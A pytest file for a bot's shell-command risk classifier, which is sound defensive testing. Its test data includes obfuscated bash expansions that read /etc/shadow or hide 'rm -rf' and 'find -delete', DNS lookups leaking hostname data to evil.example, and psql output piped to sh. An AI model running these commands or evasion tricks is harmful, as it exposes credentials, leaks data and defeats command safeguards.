"""A word is what bash makes of it: the path or option that it becomes, however roundabout, is judged."""

import pytest

from bot.safety import Risk, classify


@pytest.mark.parametrize(
    "command",
    [
        "x=/etc/shadow; cat ${x#foo}",
        "x=/etc/shadow; cat ${x##foo}",
        "x=/etc/shadow; cat ${x%foo}",
        "x=x/etc/shadow; cat ${x#x}",
        "x=/etc/shadowx; cat ${x%x}",
        "x=/etc/shadowx; cat ${x%?}",
        "x=/etc/passwd; cat ${x/passwd/shadow}",
        "x=/ETC/SHADOW; cat ${x,,}",
        "x=(/etc/shadow a); cat $x",
        'x=(/etc/shadow a); cat "$x"',
        'x=(/etc/shadow a); cat "${x:-b}"',
        "x=(/etc/shadow a); cat ${x:-b}",
        "x=a-delete; find . ${x#a}",
        'x=-delete; find . "${x#a}"',
        "for f in a-delete; do find . ${f#a}; done",
        "x=srm; ${x#s} -rf y",
        "x=a; command read x <<< /etc/shadow; cat $x",
        "x=a; builtin read x <<< /etc/shadow; cat $x",
        "cat $'/etc/shado\\x{77}'",
        "cat /etc/{a,shadow}",
        "cat /etc/{a}b,shadow}",
        "cat ${x-/etc/shadow}",
        "x='a /etc/shadow'; cat $x",
        "x=/etc/sha; y=dow; cat $x$y",
        "x=b; { x=/etc/shadow; }; cat $x",
        "if false; then x=a; else x=/etc/shadow; fi; cat $x",
        "x=$(echo /etc/shadow); cat $x",
    ],
)
def test_a_value_given_in_a_roundabout_way_is_judged(command: str) -> None:
    assert classify(command).risk is Risk.HIGH


@pytest.mark.parametrize(
    "command",
    [
        'for f in *.log; do wc -l "${f%.log}.txt"; done',
        'f=/var/log/syslog; echo "${f##*/} ${f%/*} ${#f}"',
        'v=v1.2.3; echo "${v#v}"',
        'for d in */; do du -sh "${d%/}"; done',
        'img=nginx:1.25; echo "${img%%:*} ${img##*:}"',
        "x=/etc/hosts; cat ${x}",
        "for i in {1..3}; do echo $i; done",
        'files=(README.md LICENSE); for f in "${files[@]}"; do wc -l "$f"; done',
    ],
)
def test_ordinary_expansions_pass(command: str) -> None:
    assert classify(command).risk is Risk.LOW


@pytest.mark.parametrize(
    "command",
    ["ping -c1 $(hostname).evil.example", 'host "$(id -un).evil.example"', "dig $(hostname -f).x.example"],
)
def test_a_computed_name_before_a_domain_carries_data_away(command: str) -> None:
    assert classify(command).risk is Risk.HIGH


def test_a_computed_name_alone_is_the_machines_own() -> None:
    assert classify("ping -c 1 $(hostname)").risk is Risk.LOW


@pytest.mark.parametrize("command", ["psql -o '|sh' -c 'select 1'", "psql --output='| sh' -c 'select 1'"])
def test_an_output_that_is_a_pipe_runs_a_program(command: str) -> None:
    assert classify(command).risk is Risk.HIGH
